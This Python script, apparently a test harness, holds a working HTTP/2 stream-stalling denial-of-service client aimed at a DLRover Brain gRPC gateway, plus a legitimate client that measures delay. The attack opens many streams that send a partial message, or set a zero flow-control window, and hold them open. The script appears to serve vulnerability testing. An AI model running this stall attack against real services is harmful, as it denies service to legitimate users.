"""Clients that stall the gateway, and a good one beside them.

Usage:
  stall.py attack ADDR CONNS STREAMS SECONDS OUT_JSON [--refill]
      CONNS raw HTTP/2 connections (h2, no gRPC library), each opening up to
      STREAMS calls of /brain.Brain/persist_metrics that send their headers
      and the first 10 bytes of a 100-byte message, and never more. Prints
      "ready N" once N streams are open, holds the connections SECONDS, then
      writes OUT_JSON: what the server advertised (SETTINGS_MAX_CONCURRENT_STREAMS),
      how many streams were opened, refused, ended by the server (with which
      grpc-status) and after how long, and how many were still open. With
      --refill a stream the server ends is replaced at once by a new stalled
      one, so the attack holds as many streams as it can for the whole time.
      With --no-read the calls are whole (a good persist_metrics) but the
      connections open no flow-control window (SETTINGS_INITIAL_WINDOW_SIZE
      0): the answers can never be sent, the calls never end by themselves.
  stall.py good ADDR UID
      DLRover 0.6.1's own BrainClient (no deadline, as DLRover's master calls)
      reports the job's hyper-parameters; prints "ok SECONDS" once answered.
"""

import json
import os
import selectors
import socket
import sys
import time

PATH = "/brain.Brain/persist_metrics"
# A gRPC message frame that says 100 bytes follow, and 10 of them.
PARTIAL = b"\x00" + (100).to_bytes(4, "big") + b"\x0a\x08job-stal"


def whole_request():
    from dlrover.proto import brain_pb2
    m = brain_pb2.JobMetrics()
    m.job_meta.uuid = "job-no-read-1"
    m.metrics_type = brain_pb2.MetricsType.Type
    m.type = "ParameterServerStrategy"
    body = m.SerializeToString()
    return b"\x00" + len(body).to_bytes(4, "big") + body


def attack(addr, conns, streams, seconds, out_path, refill, no_read):
    import h2.config
    import h2.connection
    import h2.events
    import h2.exceptions
    import h2.settings

    host, port = addr.rsplit(":", 1)
    sel = selectors.DefaultSelector()
    state = []  # per connection: {sock, h2, open: {sid: t0}}
    stats = {"opened": 0, "refused": 0, "ended": 0, "statuses": {}, "reset_codes": {},
             "open_s": [], "advertised": None, "goaway": 0, "too_many_local": 0}

    def open_stream(st):
        conn = st["h2"]
        try:
            sid = conn.get_next_available_stream_id()
            conn.send_headers(sid, [(":method", "POST"), (":scheme", "http"), (":path", PATH),
                                    (":authority", addr), ("content-type", "application/grpc"),
                                    ("te", "trailers")])
            if no_read:
                conn.send_data(sid, WHOLE, end_stream=True)
            else:
                conn.send_data(sid, PARTIAL)
        except h2.exceptions.TooManyStreamsError:
            stats["too_many_local"] += 1
            return False
        st["open"][sid] = time.monotonic()
        stats["opened"] += 1
        return True

    def flush(st):
        data = st["h2"].data_to_send()
        if data:
            st["sock"].sendall(data)

    def handle(st, events):
        for ev in events:
            if isinstance(ev, h2.events.RemoteSettingsChanged):
                ch = ev.changed_settings.get(h2.settings.SettingCodes.MAX_CONCURRENT_STREAMS)
                if ch is not None:
                    stats["advertised"] = ch.new_value
                st["settled"] = True
            elif isinstance(ev, (h2.events.StreamReset, h2.events.StreamEnded)):
                t0 = st["open"].pop(ev.stream_id, None)
                if t0 is None:
                    continue
                if isinstance(ev, h2.events.StreamReset):
                    code = int(ev.error_code)
                    stats["reset_codes"][str(code)] = stats["reset_codes"].get(str(code), 0) + 1
                    if code == 7:  # REFUSED_STREAM: never served
                        stats["refused"] += 1
                        continue
                stats["ended"] += 1
                stats["open_s"].append(time.monotonic() - t0)
                if refill:
                    open_stream(st)
            elif isinstance(ev, h2.events.TrailersReceived) or isinstance(
                    ev, h2.events.ResponseReceived):
                for k, v in ev.headers:
                    if k in (b"grpc-status", "grpc-status"):
                        v = v.decode() if isinstance(v, bytes) else v
                        stats["statuses"][v] = stats["statuses"].get(v, 0) + 1
            elif isinstance(ev, h2.events.ConnectionTerminated):
                stats["goaway"] += 1

    def pump(st, timeout):
        """Read what the server sent within timeout; False once it closed."""
        st["sock"].settimeout(timeout)
        try:
            data = st["sock"].recv(65536)
        except socket.timeout:
            return True
        if not data:
            return False
        handle(st, st["h2"].receive_data(data))
        flush(st)
        return True

    WHOLE = whole_request() if no_read else None
    cfg = h2.config.H2Configuration(client_side=True, header_encoding="utf-8")
    for _ in range(conns):
        s = socket.create_connection((host, int(port)))
        c = h2.connection.H2Connection(config=cfg)
        if no_read:
            c.local_settings = h2.settings.Settings(
                client=True, initial_values={h2.settings.SettingCodes.INITIAL_WINDOW_SIZE: 0})
        c.initiate_connection()
        st = {"sock": s, "h2": c, "open": {}, "settled": False, "alive": True}
        s.sendall(c.data_to_send())
        deadline = time.monotonic() + 5
        while not st["settled"] and time.monotonic() < deadline:
            pump(st, 0.2)
        state.append(st)
    for st in state:
        for _ in range(streams):
            if not open_stream(st):
                break
        flush(st)
    print("ready %d" % sum(len(st["open"]) for st in state), flush=True)

    for st in state:
        st["sock"].settimeout(None)
        sel.register(st["sock"], selectors.EVENT_READ, st)
    end = time.monotonic() + seconds
    while time.monotonic() < end:
        for key, _ in sel.select(timeout=0.2):
            st = key.data
            try:
                data = st["sock"].recv(65536)  # readable: does not block
            except OSError:
                data = b""
            if not data:
                sel.unregister(st["sock"])
                st["alive"] = False
                continue
            handle(st, st["h2"].receive_data(data))
            flush(st)
    still = sum(len(st["open"]) for st in state)
    now = time.monotonic()
    oldest = max([now - t for st in state for t in st["open"].values()] or [0])
    opens = sorted(stats.pop("open_s"))
    out = dict(stats, still_open=still, oldest_open_s=round(oldest, 3),
               connections_alive=sum(st["alive"] for st in state),
               open_s_max=round(opens[-1], 3) if opens else None,
               open_s_p50=round(opens[len(opens) // 2], 3) if opens else None)
    with open(out_path, "w") as f:
        json.dump(out, f, sort_keys=True)
    for st in state:
        st["sock"].close()


def good(addr, uid):
    os.environ["DLROVER_BRAIN_SERVICE_ADDR"] = addr
    from dlrover.proto import brain_pb2
    from dlrover.python.brain.client import GlobalBrainClient, JobMeta, init_job_metrics_message

    client = GlobalBrainClient.BRAIN_CLIENT
    if not client.available():
        sys.exit("DLRover's client found no Brain at %s" % addr)
    # The message DLRover's report_training_hyper_params builds, sent with its
    # report_metrics (the stub, no deadline, as DLRover's master calls it):
    # report_training_hyper_params itself would log and swallow a failure.
    m = init_job_metrics_message(JobMeta(uid))
    m.metrics_type = brain_pb2.MetricsType.Training_Hyper_Params
    m.training_hyper_params.batch_size = 64
    m.training_hyper_params.epoch = 1
    m.training_hyper_params.max_steps = 10
    t0 = time.monotonic()
    client.report_metrics(m)
    print("ok %.3f" % (time.monotonic() - t0), flush=True)


if __name__ == "__main__":
    if sys.argv[1] == "attack":
        attack(sys.argv[2], int(sys.argv[3]), int(sys.argv[4]), float(sys.argv[5]), sys.argv[6],
               "--refill" in sys.argv[7:], "--no-read" in sys.argv[7:])
    elif sys.argv[1] == "good":
        good(sys.argv[2], sys.argv[3])
    else:
        sys.exit(__doc__)
